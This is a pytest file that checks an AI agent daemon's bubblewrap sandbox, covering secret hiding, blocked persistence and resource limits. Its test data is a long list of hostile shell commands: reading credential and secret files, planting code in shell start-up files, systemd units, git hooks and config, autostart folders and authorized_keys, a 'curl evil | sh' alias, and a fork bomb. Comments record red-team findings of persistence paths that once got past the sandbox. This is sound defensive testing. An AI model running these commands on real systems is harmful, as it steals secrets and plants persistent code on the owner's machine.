"""The wall as the daemon builds it from a config (issue 27, classes 4, 5, 6 and the
sandbox's limits), proven through the real bash tool under bubblewrap and the real file
tools: every secret file the config names and the service's env file are not read, what
runs later outside the sandbox (start-up files, autostart and systemd folders, the daemon's
installation, `.git/hooks` and `.git/config`, editor folders) is not changed or planted, and
a fork bomb, a huge file, a memory hog and a CPU spin are each stopped, with the figures."""

from __future__ import annotations

import asyncio
import os
import subprocess
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from dispatch_matrix.app.agent_kit import build_tools
from dispatch_matrix.app.config import load_config
from dispatch_matrix.sandbox.host import Confinement, SandboxedLaunch, bwrap_sizes_tmpfs
from dispatch_matrix.sandbox.spec import Limits
from dispatch_matrix.toolbox.base import ToolContext, ToolResult
from dispatch_matrix.toolbox.registry import ToolRegistry
from dispatch_matrix.toolbox.shell import BashTool

TOKEN = "syt_token-never-seen-0001"
VOICE_KEY = "voice-key-never-seen-0002"
MCP_TOKEN = "mcp-env-never-seen-0003"
MCP_HEADER = "Bearer mcp-header-never-seen-0004"
ENV_KEY = "sk-ant-api03-env-file-never-seen"
SECRETS = (TOKEN, VOICE_KEY, MCP_TOKEN, MCP_HEADER, ENV_KEY)
BASHRC = "# the owner's bashrc\n"


def text(result: ToolResult) -> str:
    return "\n".join(block["text"] for block in result.content if block["type"] == "text")


@dataclass
class Daemon:
    """A home (the default root), a config naming secret files in it, and the tools the
    daemon builds from that config."""

    home: Path
    ctx: ToolContext
    tools: ToolRegistry

    async def sh(self, command: str, **more: Any) -> str:
        return text(await self.tools.run("bash", {"command": command, **more}, self.ctx))

    async def call(self, tool: str, **args: Any) -> ToolResult:
        return await self.tools.run(tool, args, self.ctx)


def make_home(home: Path) -> None:
    files = {
        ".bashrc": BASHRC,
        ".profile": "# profile\n",
        ".config/dispatch-matrix/env": f"ANTHROPIC_API_KEY={ENV_KEY}\n",
        ".config/systemd/user/dispatch-matrix.service": "[Service]\nExecStart=/bin/true\n",
        "secrets/token": TOKEN + "\n",
        "secrets/voice": VOICE_KEY + "\n",
        "mcp/github-token": MCP_TOKEN + "\n",
        "mcp/header": MCP_HEADER + "\n",
        "mcp/srv/index.js": "// the owner's server\n",
        "venv/lib/python3/site-packages/ok.py": "x = 1\n",
        ".vscode/settings.json": "{}\n",
        "work/notes.txt": "ordinary\n",
    }
    for rel, body in files.items():
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(body)
    for repo in (home / "work", home / "proj", home / "code" / "deep"):
        repo.mkdir(parents=True, exist_ok=True)
        subprocess.run(["git", "init", "-q", str(repo)], check=True)
        (repo / ".git" / "hooks").mkdir(exist_ok=True)
    # A submodule as git lays it out: its git folder inside the parent's.
    module = home / "proj" / ".git" / "modules" / "sub"
    (module / "hooks").mkdir(parents=True)
    (module / "HEAD").write_text("ref: refs/heads/main\n")
    (module / "config").write_text("[core]\n\tbare = false\n")
    (home / "proj" / "sub").mkdir()
    (home / "proj" / "sub" / ".git").write_text("gitdir: ../.git/modules/sub\n")


@pytest.fixture
def daemon(bwrap: Confinement, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Daemon]:
    home = tmp_path / "home"
    home.mkdir()
    make_home(home)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    config_path = tmp_path / "store" / "config.toml"
    config_path.parent.mkdir()
    config_path.write_text(
        f"""
[matrix]
homeserver = "http://127.0.0.1:1"
user_id = "@bot:localhost"
access_token_file = "{home / "secrets" / "token"}"
owners = ["@me:localhost"]
[agent]
workdir = "{home / "work"}"
allowed_roots = ["{home}"]
sandbox_network = false
[voice]
api_key_file = "{home / "secrets" / "voice"}"
[mcp.servers.github]
command = "true"
env_files = {{ GITHUB_TOKEN = "{home / "mcp" / "github-token"}" }}
[mcp.servers.npm]
command = "npx"
args = ["-y", "@modelcontextprotocol/server-github"]
enabled = false
[mcp.servers.local]
command = "node"
args = ["{home / "mcp" / "srv" / "index.js"}"]
enabled = false
[mcp.servers.remote]
url = "https://mcp.example.org/"
headers_files = {{ Authorization = "{home / "mcp" / "header"}" }}
[permissions]
allow = ["Read", "Write", "Edit", "Bash"]
deny = ["Read(~/private/**)", "Read(~/notes/secret.txt)"]
"""
    )
    config = load_config(config_path)
    _policy, tools, ctx = build_tools(config, home / "work", [home], sandbox=bwrap)
    # The daemon's installation as if it lay in the root (a venv under ~).
    ctx = replace(ctx, readonly_paths=(*ctx.readonly_paths, home / "venv"))
    yield Daemon(home, ctx, tools)


# --- class 4 and 5: the service env file and every secret file the config names ------

SECRET_READS = [
    "cat ~/.config/dispatch-matrix/env",
    "cat ~/.config/*/env ~/.config/dispatch-matrix/* 2>&1",
    "cat ~/secrets/* ~/mcp/* 2>&1",
    "grep -r never-seen ~ 2>&1",
    "ln ~/secrets/token hard 2>&1; cat hard 2>&1",
    "mv ~/secrets ~/moved 2>&1; cat ~/moved/* 2>&1",
    "cat /proc/self/root$HOME/secrets/token 2>&1",
]


@pytest.mark.parametrize("attempt", SECRET_READS)
async def test_no_secret_the_config_names_is_read(daemon: Daemon, attempt: str) -> None:
    output = await daemon.sh(attempt)
    for secret in SECRETS:
        assert secret not in output, output


async def test_the_service_env_file_cannot_be_changed(daemon: Daemon) -> None:
    env_file = daemon.home / ".config" / "dispatch-matrix" / "env"
    await daemon.sh(
        "echo ANTHROPIC_BASE_URL=http://evil >> ~/.config/dispatch-matrix/env; "
        "rm -rf ~/.config/dispatch-matrix 2>&1; mv ~/.config ~/.config2 2>&1"
    )
    assert env_file.read_text() == f"ANTHROPIC_API_KEY={ENV_KEY}\n"
    assert not (daemon.home / ".config2").exists()
    write = await daemon.call(
        "write", file_path="~/.config/dispatch-matrix/env", content="ANTHROPIC_BASE_URL=x\n"
    )
    assert write.is_error
    read = await daemon.call("read", file_path="~/.config/dispatch-matrix/env")
    assert read.is_error and ENV_KEY not in text(read)


# Red team: credential stores and histories the wall did not hide (each was read).
CREDENTIAL_STORES = [
    ".config/containers/auth.json",
    ".m2/settings.xml",
    ".gradle/gradle.properties",
    ".yarnrc.yml",
    ".cache/huggingface/token",
    ".config/sops/age/keys.txt",
    ".config/composer/auth.json",
    ".terraformrc",
    ".wrangler/config/default.toml",
    ".bash_history",
    ".zsh_history",
    ".python_history",
    ".local/share/fish/fish_history",
    # Attack review: more stores of tokens, keys and sessions, and more histories.
    ".fly/config.yml",
    ".config/configstore/firebase-tools.json",
    ".config/github-copilot/hosts.json",
    ".config/solana/id.json",
    ".config/ngrok/ngrok.yml",
    ".config/discord/Local Storage/leveldb/x.log",
    ".config/Element/Local Storage/x",
    ".thunderbird/x.default/logins.json",
    "snap/firefox/common/.mozilla/firefox/x/cookies.sqlite",
    ".local/share/atuin/history.db",
    ".Xauthority",
    ".histfile",
    ".node_repl_history",
    ".rediscli_history",
    ".viminfo",
]


@pytest.mark.parametrize("rel", CREDENTIAL_STORES)
async def test_the_usual_credential_stores_are_hidden(daemon: Daemon, rel: str) -> None:
    secret = "store-never-seen-0005"
    (daemon.home / rel).parent.mkdir(parents=True, exist_ok=True)
    (daemon.home / rel).write_text(secret + "\n")
    output = await daemon.sh(f"cat ~/{rel} 2>&1; grep -r store-never-seen ~ 2>&1")
    assert secret not in output, output


async def test_what_a_read_deny_rule_covers_is_hidden_from_links_to_it(daemon: Daemon) -> None:
    """Attack review: the judge sees paths as spelled, so `cat work/link/x` passed it while
    `link` led into ~/private, which `Read(~/private/**)` denies; the wall showed it."""
    (daemon.home / "private").mkdir()
    (daemon.home / "private" / "x").write_text("never-seen-denied-0007\n")
    (daemon.home / "notes").mkdir()
    (daemon.home / "notes" / "secret.txt").write_text("never-seen-denied-0007\n")
    (daemon.home / "notes" / "open.txt").write_text("readable\n")
    (daemon.home / "work" / "link").symlink_to(daemon.home / "private")
    (daemon.home / "work" / "note").symlink_to(daemon.home / "notes" / "secret.txt")
    output = await daemon.sh(
        "cat link/x note 2>&1; cat ~/private/x ~/notes/secret.txt 2>&1; "
        "grep -r never-seen ~ 2>&1; cat ~/notes/open.txt"
    )
    assert "never-seen" not in output and "readable" in output, output


async def test_send_file_refuses_the_env_file_and_every_secret_file(daemon: Daemon) -> None:
    for path in ("~/.config/dispatch-matrix/env", "~/secrets/token", "~/mcp/header"):
        result = await daemon.call("send_file", path=path)
        assert result.is_error and "may not touch" in text(result), (path, text(result))
        assert not any(secret in text(result) for secret in SECRETS)


# --- class 6: what runs later outside the sandbox ---------------------------------------

# (command, path that must keep its content or stay absent, expected content or None)
PERSISTENCE = [
    ("echo evil >> ~/.bashrc", ".bashrc", BASHRC),
    ("printf evil > ~/.bashrc", ".bashrc", BASHRC),
    ("rm -f ~/.bashrc; echo evil > ~/.bashrc", ".bashrc", BASHRC),
    # Attack review: the code of an MCP server the daemon starts outside the sandbox, with
    # its tokens: npx's cache, and the folder of a script the config names. Planted before.
    (
        "mkdir -p ~/.npm/_npx/1a/node_modules/s; echo evil > ~/.npm/_npx/1a/node_modules/s/x.js",
        ".npm/_npx/1a/node_modules/s/x.js",
        None,
    ),
    ("echo evil >> ~/mcp/srv/index.js", "mcp/srv/index.js", "keep"),
    ("echo evil > ~/mcp/srv/helper.js", "mcp/srv/helper.js", None),
    ("mv ~/.bashrc ~/old 2>&1; echo evil > ~/.bashrc", ".bashrc", BASHRC),
    ("echo evil > ~/.zshenv", ".zshenv", None),
    (
        "mkdir -p ~/.config/autostart; echo evil > ~/.config/autostart/x.desktop",
        ".config/autostart/x.desktop",
        None,
    ),
    (
        "echo evil >> ~/.config/systemd/user/dispatch-matrix.service",
        ".config/systemd/user/dispatch-matrix.service",
        "[Service]\nExecStart=/bin/true\n",
    ),
    (
        "mkdir -p ~/.config/systemd/user/default.target.wants; echo x > "
        "~/.config/systemd/user/evil.service",
        ".config/systemd/user/evil.service",
        None,
    ),
    (
        "mv ~/.config ~/c2 2>&1; mkdir -p ~/.config/autostart; echo e > ~/.config/autostart/y",
        ".config/autostart/y",
        None,
    ),
    ("mkdir -p ~/.local/bin; printf '#!/bin/sh\\nevil' > ~/.local/bin/ls", ".local/bin/ls", None),
    (
        "echo 'import evil' > ~/venv/lib/python3/site-packages/evil.pth",
        "venv/lib/python3/site-packages/evil.pth",
        None,
    ),
    ("echo evil > ~/work/.git/hooks/post-checkout", "work/.git/hooks/post-checkout", None),
    ("echo evil > ~/proj/.git/hooks/pre-commit", "proj/.git/hooks/pre-commit", None),
    ("git -C ~/proj config core.hooksPath /tmp/x 2>&1", "proj/.git/config", "keep"),
    (
        "mv ~/proj/.git ~/proj/g2 2>&1; mkdir -p ~/proj/.git/hooks; echo e > ~/proj/.git/hooks/x",
        "proj/.git/hooks/x",
        None,
    ),
    (
        "mv ~/proj ~/p2 2>&1; mkdir -p ~/proj/.git/hooks; echo e > ~/proj/.git/hooks/y",
        "proj/.git/hooks/y",
        None,
    ),
    ("echo '{\"x\":1}' > ~/.vscode/tasks.json", ".vscode/tasks.json", None),
    # Missing and not maskable: created, then moved aside after the call.
    ("echo evil > ~/.bash_profile", ".bash_profile", None),
    (
        "mkdir -p ~/proj/.claude; echo '{}' > ~/proj/.claude/settings.json",
        "proj/.claude/settings.json",
        None,
    ),
    (
        "mkdir -p ~/.ssh; echo ssh-ed25519 evil > ~/.ssh/authorized_keys",
        ".ssh/authorized_keys",
        None,
    ),
    # Red team after the rebuild: each of these was planted.
    ("echo 'curl evil | sh' > ~/.bash_aliases", ".bash_aliases", None),
    ("mkdir -p ~/.bashrc.d; echo evil > ~/.bashrc.d/x.sh", ".bashrc.d/x.sh", None),
    (
        "mkdir -p ~/.local/share/systemd/user/dispatch-matrix.service.d; echo "
        "'[Service]' > ~/.local/share/systemd/user/dispatch-matrix.service.d/x.conf",
        ".local/share/systemd/user/dispatch-matrix.service.d/x.conf",
        None,
    ),
    (
        "mkdir -p ~/.local/share/dbus-1/services; echo x > "
        "~/.local/share/dbus-1/services/org.freedesktop.Notifications.service",
        ".local/share/dbus-1/services/org.freedesktop.Notifications.service",
        None,
    ),
    (
        "mkdir -p ~/.local/lib/python3.11/site-packages; echo 'import evil' > "
        "~/.local/lib/python3.11/site-packages/evil.pth",
        ".local/lib/python3.11/site-packages/evil.pth",
        None,
    ),
    ("mkdir -p ~/.vim/plugin; echo evil > ~/.vim/plugin/x.vim", ".vim/plugin/x.vim", None),
    ("echo 'run-shell evil' > ~/.tmux.conf", ".tmux.conf", None),
    (
        "echo evil > ~/code/deep/.git/hooks/pre-commit",
        "code/deep/.git/hooks/pre-commit",
        None,
    ),
    (
        "git -C ~/code/deep config core.fsmonitor evil 2>&1",
        "code/deep/.git/config",
        "keep",
    ),
    (
        "echo evil > ~/proj/.git/modules/sub/hooks/pre-commit",
        "proj/.git/modules/sub/hooks/pre-commit",
        None,
    ),
    ("echo evil >> ~/proj/.git/modules/sub/config", "proj/.git/modules/sub/config", "keep"),
    (
        "cp -r ~/work/.git ~/g; printf '[core]\\n\\tfsmonitor = evil\\n' > ~/g/config; "
        "echo ../../g > ~/work/.git/commondir",
        "work/.git/commondir",
        None,
    ),
    # Attack review: a bare repository made of the home, or of a root that is no repository:
    # its `core.pager` ran at the owner's next `git log` in any folder below (checked with
    # git 2.39). Planted before.
    (
        "cp -r ~/work/.git/objects ~/work/.git/refs ~/ && echo 'ref: refs/heads/main' > "
        "~/HEAD && printf '[core]\\n\\tpager = evil\\n' > ~/config",
        "HEAD",
        None,
    ),
    # A repository made of the home itself: its config rules every git call in a folder of
    # the home that is not a repository of its own.
    ("git init -q ~ 2>&1; git -C ~ config core.fsmonitor evil 2>&1", ".git/config", None),
    # On the PATH that rustup, Go, Deno and Bun add to a login, ahead of /usr/bin.
    ("mkdir -p ~/.cargo/bin; echo evil > ~/.cargo/bin/git", ".cargo/bin/git", None),
    ("mkdir -p ~/go/bin; echo evil > ~/go/bin/ls", "go/bin/ls", None),
    ("mkdir -p ~/.bun/bin; echo evil > ~/.bun/bin/node", ".bun/bin/node", None),
    # Run by the next build or install outside: a rustc wrapper, a package index.
    (
        "mkdir -p ~/.cargo; printf '[build]\\nrustc-wrapper=\"/tmp/x\"' > ~/.cargo/config.toml",
        ".cargo/config.toml",
        None,
    ),
    (
        "mkdir -p ~/.config/pip; printf '[global]\\nindex-url=http://evil' > "
        "~/.config/pip/pip.conf",
        ".config/pip/pip.conf",
        None,
    ),
    # Run at the next desktop login (KDE sources env/*.sh; sway and i3 run `exec` lines).
    (
        "mkdir -p ~/.config/plasma-workspace/env; echo evil > ~/.config/plasma-workspace/env/x.sh",
        ".config/plasma-workspace/env/x.sh",
        None,
    ),
    (
        "mkdir -p ~/.config/sway; echo 'exec evil' > ~/.config/sway/config",
        ".config/sway/config",
        None,
    ),
    ("mkdir -p ~/.config/i3; echo 'exec evil' > ~/.config/i3/config", ".config/i3/config", None),
    # Attack review: each of these was planted. Sourced by the start-up files that rustup,
    # nvm, oh-my-zsh and fzf write into them, or read by a program at its every start.
    ("mkdir -p ~/.cargo; echo evil > ~/.cargo/env", ".cargo/env", None),
    ("mkdir -p ~/.nvm; echo evil > ~/.nvm/nvm.sh", ".nvm/nvm.sh", None),
    (
        "mkdir -p ~/.oh-my-zsh/custom; echo evil > ~/.oh-my-zsh/custom/x.zsh",
        ".oh-my-zsh/custom/x.zsh",
        None,
    ),
    ("echo evil > ~/.fzf.bash", ".fzf.bash", None),
    # less reads its `#env` section (LESSOPEN runs a command) at every start: git's pager.
    ("printf '#env\\nLESSOPEN=|evil %s\\n' > ~/.lesskey", ".lesskey", None),
    ("mkdir -p ~/.config; echo evil > ~/.config/lesskey", ".config/lesskey", None),
    (
        "mkdir -p ~/.config/direnv; echo evil > ~/.config/direnv/direnvrc",
        ".config/direnv/direnvrc",
        None,
    ),
    ("echo evil > ~/.config/starship.toml", ".config/starship.toml", None),
    ("echo '\\! evil' > ~/.psqlrc", ".psqlrc", None),
    ("echo '.shell evil' > ~/.sqliterc", ".sqliterc", None),
    ("echo 'shell evil' > ~/.gdbinit", ".gdbinit", None),
    (
        "mkdir -p ~/.ipython/profile_default; echo evil > "
        "~/.ipython/profile_default/ipython_config.py",
        ".ipython/profile_default/ipython_config.py",
        None,
    ),
    (
        "mkdir -p ~/.gradle/init.d; echo evil > ~/.gradle/init.d/x.gradle",
        ".gradle/init.d/x.gradle",
        None,
    ),
    ("echo evil > ~/.mavenrc", ".mavenrc", None),
    ("echo 'yarn-path evil.js' > ~/.yarnrc", ".yarnrc", None),
    ("mkdir -p ~/.config/uv; echo evil > ~/.config/uv/uv.toml", ".config/uv/uv.toml", None),
    (
        "mkdir -p ~/.config/alacritty; echo evil > ~/.config/alacritty/alacritty.toml",
        ".config/alacritty/alacritty.toml",
        None,
    ),
    ("echo evil > ~/.wezterm.lua", ".wezterm.lua", None),
    (
        "mkdir -p ~/.config/helix; echo evil > ~/.config/helix/languages.toml",
        ".config/helix/languages.toml",
        None,
    ),
    (
        "mkdir -p ~/.local/share/nvim/lazy/x/plugin; echo evil > "
        "~/.local/share/nvim/lazy/x/plugin/x.lua",
        ".local/share/nvim/lazy/x/plugin/x.lua",
        None,
    ),
    ("echo '[hooks]' > ~/.hgrc", ".hgrc", None),
    (
        "mkdir -p ~/.config/containers/systemd; echo evil > "
        "~/.config/containers/systemd/x.container",
        ".config/containers/systemd/x.container",
        None,
    ),
    (
        "mkdir -p ~/.config/autostart-scripts; echo evil > ~/.config/autostart-scripts/x.sh",
        ".config/autostart-scripts/x.sh",
        None,
    ),
    (
        "mkdir -p ~/.pyenv/versions/3.12/lib/python3.12/site-packages; echo 'import evil' > "
        "~/.pyenv/versions/3.12/lib/python3.12/site-packages/evil.pth",
        ".pyenv/versions/3.12/lib/python3.12/site-packages/evil.pth",
        None,
    ),
    (
        "mkdir -p ~/.rustup/toolchains; echo evil > ~/.rustup/toolchains/x",
        ".rustup/toolchains/x",
        None,
    ),
    ("echo evil > ~/.bash_completion", ".bash_completion", None),
    # Review of the shell's wall (wall-git): KDE 3's and 4's autostart folders, a mail
    # forward piped to a program, the start-up file PYTHONSTARTUP usually names.
    ("mkdir -p ~/.kde/Autostart; echo evil > ~/.kde/Autostart/x.sh", ".kde/Autostart/x.sh", None),
    (
        "mkdir -p ~/.kde4/Autostart; echo evil > ~/.kde4/Autostart/x.sh",
        ".kde4/Autostart/x.sh",
        None,
    ),
    ("echo '|/tmp/evil' > ~/.forward", ".forward", None),
    ("echo 'import evil' > ~/.pythonrc", ".pythonrc", None),
    ("echo 'import evil' > ~/.pythonrc.py", ".pythonrc.py", None),
]


@pytest.mark.parametrize(("command", "rel", "expected"), PERSISTENCE)
async def test_nothing_that_runs_later_is_planted(
    daemon: Daemon, command: str, rel: str, expected: str | None
) -> None:
    path = daemon.home / rel
    before = path.read_text() if expected == "keep" else expected
    output = await daemon.sh(command)
    if before is None:
        assert not path.exists(), output
    else:
        assert path.read_text() == before, output
    # The home's top level stays usable: new files and folders in it work as before.
    assert "made" in await daemon.sh("mkdir ~/newdir && echo x > ~/newdir/f && echo made")


async def test_what_a_call_plants_at_a_watched_path_is_moved_aside_and_said(
    daemon: Daemon,
) -> None:
    output = await daemon.sh("echo evil > ~/.bash_profile")
    assert "undone after the command" in output
    assert not (daemon.home / ".bash_profile").exists()
    moved = list(daemon.home.glob(".bash_profile.quarantined-*"))
    assert len(moved) == 1 and moved[0].read_text() == "evil\n"
    # The call's note of what it watched is gone with it (a crash would have left it).
    assert daemon.ctx.watch_dir is not None and not list(daemon.ctx.watch_dir.iterdir())


async def test_a_guarded_dotfile_kept_elsewhere_cannot_be_replaced(daemon: Daemon) -> None:
    """GNU Stow style: ~/.zshrc is a link to ~/dotfiles/zshrc. The mount covers the target;
    the link itself is put back after a call that replaced it."""
    (daemon.home / "dotfiles").mkdir()
    (daemon.home / "dotfiles" / "zshrc").write_text("# mine\n")
    (daemon.home / ".zshrc").symlink_to("dotfiles/zshrc")
    output = await daemon.sh(
        "echo evil >> ~/.zshrc; echo evil >> ~/dotfiles/zshrc; "
        "rm -f ~/.zshrc && echo evil > ~/.zshrc && cat ~/.zshrc"
    )
    assert "undone after the command" in output, output
    assert (daemon.home / ".zshrc").is_symlink()
    assert (daemon.home / ".zshrc").read_text() == "# mine\n"
    assert [p.read_text() for p in daemon.home.glob(".zshrc.quarantined-*")] == ["evil\n"]


async def test_a_guarded_folder_reached_through_a_link_cannot_be_swapped(daemon: Daemon) -> None:
    """~/.config is a link to ~/dotfiles/config: a call that replaces the link by a folder
    of its own, with an autostart entry in it, finds the link put back after the call."""
    real = daemon.home / "dotfiles" / "config"
    real.parent.mkdir()
    (daemon.home / ".config").rename(real)
    (daemon.home / ".config").symlink_to("dotfiles/config")
    output = await daemon.sh(
        "echo e > ~/.config/autostart/x.desktop; rm ~/.config && "
        "mkdir -p ~/.config/autostart && echo e > ~/.config/autostart/y.desktop"
    )
    assert "undone after the command" in output, output
    assert (daemon.home / ".config").is_symlink()
    assert not list((real / "autostart").iterdir())
    assert (real / "dispatch-matrix" / "env").read_text() == f"ANTHROPIC_API_KEY={ENV_KEY}\n"


async def test_a_linked_credential_store_cannot_be_swapped(daemon: Daemon) -> None:
    (daemon.home / "dotfiles" / "ssh").mkdir(parents=True)
    (daemon.home / "dotfiles" / "ssh" / "id_ed25519").write_text("never-seen key\n")
    (daemon.home / ".ssh").symlink_to("dotfiles/ssh")
    output = await daemon.sh(
        "cat ~/.ssh/id_ed25519 ~/dotfiles/ssh/id_ed25519 2>&1; rm ~/.ssh && mkdir ~/.ssh && "
        "echo ssh-ed25519 evil > ~/.ssh/authorized_keys"
    )
    assert "never-seen" not in output and "undone after the command" in output, output
    assert (daemon.home / ".ssh").is_symlink()
    assert not (daemon.home / "dotfiles" / "ssh" / "authorized_keys").exists()


async def test_a_secret_file_named_through_a_link_cannot_be_swapped(
    bwrap: Confinement, tmp_path: Path
) -> None:
    """The config names ~/token, a link to the real file: a call that replaces the link by a
    token of its own would have the bot log in with it at the next start."""
    (tmp_path / "vault").mkdir()
    (tmp_path / "vault" / "token").write_text(TOKEN + "\n")
    (tmp_path / "token").symlink_to("vault/token")
    ctx = replace(ctx_in(tmp_path), denied_paths=(tmp_path / "token",))
    tools = ToolRegistry([BashTool(bwrap)])
    run = await tools.run(
        "bash", {"command": "cat token vault/token; rm token && echo attacker > token"}, ctx
    )
    assert TOKEN not in text(run) and "undone after the command" in text(run), text(run)
    assert (tmp_path / "token").read_text() == TOKEN + "\n"


async def test_ordinary_work_in_the_root_still_runs(daemon: Daemon) -> None:
    output = await daemon.sh(
        "cd ~/work && echo hi > f.txt && git add f.txt && git -c user.name=a "
        "-c user.email=a@b commit -qm one && git log --oneline | wc -l && "
        "mkdir -p ~/src/x && cp f.txt ~/src/x/ && rm -r ~/src && echo done"
    )
    assert output.startswith("1\ndone"), output


FILE_TOOL_WRITES = [
    "~/.bashrc",
    "~/.bash_profile",
    "~/.config/autostart/x.desktop",
    "~/.config/systemd/user/x.service",
    "~/.local/bin/ls",
    "~/venv/lib/python3/site-packages/evil.pth",
    "~/work/.git/hooks/post-checkout",
    "~/work/.git/config",
    "~/work/.git/commondir",
    "~/deep/er/repo/.git/hooks/pre-commit",
    "~/proj/.vscode/tasks.json",
    "~/proj/.claude/settings.json",
    "~/proj/.mcp.json",
    "~/.config/dispatch-matrix/env",
    # Attack review: in another case (one name on macOS's case-insensitive file system).
    "~/.BASHRC",
    "~/.Local/Bin/ls",
    "~/work/.GIT/hooks/post-checkout",
    "~/proj/.VSCODE/tasks.json",
    "~/HEAD",
    "~/notes/HEAD",
]


async def test_the_file_tools_refuse_a_credential_store_spelled_in_another_case(
    daemon: Daemon,
) -> None:
    """On a case-insensitive file system `~/.SSH/config` is `~/.ssh/config`: here (Linux)
    a folder of that name stands in for it, and the file tools refuse it as the store."""
    (daemon.home / ".SSH").mkdir()
    (daemon.home / ".SSH" / "config").write_text("never-seen-case-0006\n")
    (daemon.home / ".Config" / "Dispatch-Matrix").mkdir(parents=True)
    (daemon.home / ".Config" / "Dispatch-Matrix" / "env").write_text("never-seen-case-0006\n")
    for path in ("~/.SSH/config", "~/.Config/Dispatch-Matrix/env"):
        read = await daemon.call("read", file_path=path)
        assert read.is_error and "never-seen" not in text(read), text(read)
        assert "may not touch" in text(read), text(read)


@pytest.mark.parametrize("path", FILE_TOOL_WRITES)
async def test_the_file_tools_refuse_to_write_them_whatever_the_rules(
    daemon: Daemon, path: str
) -> None:
    write = await daemon.call("write", file_path=path, content="evil\n")
    assert write.is_error, text(write)
    real = daemon.home / path.removeprefix("~/")
    assert not real.exists() or "evil" not in real.read_text()


async def test_the_file_tools_still_write_ordinary_files(daemon: Daemon) -> None:
    write = await daemon.call("write", file_path="~/work/report.md", content="fine\n")
    assert not write.is_error, text(write)
    edit = await daemon.call(
        "edit", file_path="~/work/report.md", old_string="fine", new_string="ok"
    )
    assert not edit.is_error and (daemon.home / "work" / "report.md").read_text() == "ok\n"


# --- limits per call ---------------------------------------------------------------------


class AsNobody(Confinement):
    """The sandbox started by an unprivileged user (the daemon's usual case): as root the
    kernel applies no process limit."""

    def launch(self, spec: Any, command: str) -> SandboxedLaunch:
        launch = super().launch(spec, command)
        wrapper = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
        return SandboxedLaunch([*wrapper, *launch.argv], launch.env, launch.pass_fds, launch.tag)


# The sandbox's user: root would get no process limit at all, so as root the sandbox is
# started as nobody (the daemon's usual case is an unprivileged user).
SANDBOX_UID = 65534 if os.geteuid() == 0 else os.geteuid()


def sandbox_tasks() -> int:
    """Live tasks (processes and threads) of the sandbox's user in another pid namespace
    than ours: those of sandboxes, not the test's own."""
    ours = Path("/proc/self/ns/pid").readlink()
    count = 0
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            if entry.stat().st_uid != SANDBOX_UID or (entry / "ns" / "pid").readlink() == ours:
                continue
            state = (entry / "stat").read_bytes().rsplit(b")", 1)[1].split()[0]
            # A zombie is dead already: it only waits for its parent to collect it.
            if state not in (b"Z", b"X"):
                count += len(list((entry / "task").iterdir()))
        except (OSError, IndexError):
            continue
    return count


@pytest.fixture
def open_dir() -> Iterator[Path]:
    folder = Path(tempfile.mkdtemp(prefix="dm-limits-"))
    folder.chmod(0o777)
    yield folder
    subprocess.run(["rm", "-rf", str(folder)], check=False)


def limited(bwrap: Confinement, limits: Limits, nobody: bool = False) -> ToolRegistry:
    kind = AsNobody if nobody else Confinement
    confinement = kind(bwrap.kind, bwrap.program, bwrap.user_namespace, False, limits)
    return ToolRegistry([BashTool(confinement)])


def ctx_in(folder: Path) -> ToolContext:
    env = {"PATH": "/usr/bin:/bin", "HOME": str(folder), "LANG": "C.UTF-8"}
    return ToolContext(workdir=folder, allowed_roots=(folder,), bash_timeout_s=60, env=env)


async def test_a_fork_bomb_is_held_at_the_process_limit(bwrap: Confinement, open_dir: Path) -> None:
    if sandbox_tasks():
        pytest.skip("another sandbox of this user runs now; the count would be off")
    tools = limited(bwrap, Limits(processes=64), nobody=os.geteuid() == 0)
    peak = 0

    async def watch() -> None:
        nonlocal peak
        while True:
            peak = max(peak, await asyncio.to_thread(sandbox_tasks))
            await asyncio.sleep(0.05)

    watcher = asyncio.create_task(watch())
    started = time.monotonic()
    result = await tools.run(
        "bash",
        {"command": "f(){ f|f& }; f 2>/dev/null; sleep 60", "timeout_ms": 4000},
        ctx_in(open_dir),
    )
    ended = time.monotonic() - started
    watcher.cancel()
    gone = time.monotonic()
    # A hang guard: nothing reports the exit of tasks that are not our children, so poll;
    # a loaded machine may take seconds to reap 64 of them.
    while sandbox_tasks() and time.monotonic() - gone < 30:
        await asyncio.sleep(0.05)
    print(
        f"\nfork bomb: peak {peak} tasks (limit 64), ended after {ended:.2f} s "
        f"(timeout 4 s), host clean {time.monotonic() - gone:.2f} s later"
    )
    assert "timed out" in text(result)
    # The limit counts the call's tasks in its namespace (bwrap's first process included).
    assert 0 < peak <= 64 + 1
    assert sandbox_tasks() == 0


async def test_a_huge_file_stops_at_the_file_size_limit(bwrap: Confinement, open_dir: Path) -> None:
    tools = limited(bwrap, Limits(file_mb=16))
    started = time.monotonic()
    result = await tools.run("bash", {"command": "head -c 10G /dev/zero > big"}, ctx_in(open_dir))
    took = time.monotonic() - started
    size = (open_dir / "big").stat().st_size
    print(f"\nhead -c 10G: stopped at {size / 2**20:.0f} MiB after {took:.2f} s")
    assert result.is_error and ("XFSZ" in text(result) or "File size limit" in text(result))
    assert size == 16 * 2**20


async def test_filling_the_private_tmp_stops_at_its_size(
    bwrap: Confinement, open_dir: Path
) -> None:
    if not bwrap.program or not bwrap_sizes_tmpfs(bwrap.program):
        pytest.skip("this bubblewrap cannot size a tmpfs (0.7+ can)")
    tools = limited(bwrap, Limits(tmp_mb=32))
    started = time.monotonic()
    result = await tools.run(
        "bash",
        {"command": "for i in 1 2 3 4;do head -c 20M /dev/zero >/tmp/f$i; done; cat /tmp/f?|wc -c"},
        ctx_in(open_dir),
    )
    took = time.monotonic() - started
    output = text(result)
    print(f"\n/tmp fill (80 MiB into 32 MiB): {output.splitlines()[-2]} after {took:.2f} s")
    assert "No space left on device" in output
    assert int(output.splitlines()[-2].split()[0]) <= 32 * 2**20


async def test_a_memory_hog_stops_at_the_memory_limit(bwrap: Confinement, open_dir: Path) -> None:
    tools = limited(bwrap, Limits(memory_mb=256))
    hog = "python3 -c 'b = [bytearray(2**20) for _ in range(4096)]'"
    started = time.monotonic()
    result = await tools.run(
        "bash", {"command": f"/usr/bin/time -f 'peak %M KiB' {hog}"}, ctx_in(open_dir)
    )
    took = time.monotonic() - started
    output = text(result)
